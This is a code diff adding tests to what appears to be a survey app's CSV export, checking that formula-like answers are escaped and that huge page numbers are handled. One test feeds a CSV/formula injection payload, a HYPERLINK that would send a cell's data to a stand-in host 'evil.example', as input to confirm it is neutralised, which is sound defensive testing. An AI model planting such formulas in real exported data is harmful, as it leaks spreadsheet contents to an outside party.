@@ -149,3 +149,17 @@ def test_the_cli_exports_the_same_csv(app, world, publish, send, runner, tmp_pat
     assert result.exit_code == 0, result.output
     rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
     assert rows[0]["household_info/household_head"] == "李梅"
+
+
+def test_answers_that_look_like_formulas_stay_inert_in_excel(client, world, publish, send):
+    publish(SCREENING)
+    send(screening_answers(remarks='=HYPERLINK("http://evil.example/?d="&D2,"点击")'))
+    _, rows = _download(client, world)
+    assert rows[0]["remarks"] == '\'=HYPERLINK("http://evil.example/?d="&D2,"点击")'
+    assert rows[0]["household/household_members[1]/member_age"] == "41"  # numbers untouched
+
+
+def test_huge_page_numbers_show_an_empty_page(client, world, publish, send):
+    publish(SCREENING)
+    login(client, world.researcher)
+    assert client.get("/data/family_screening?page=99999999999999999999").status_code == 200
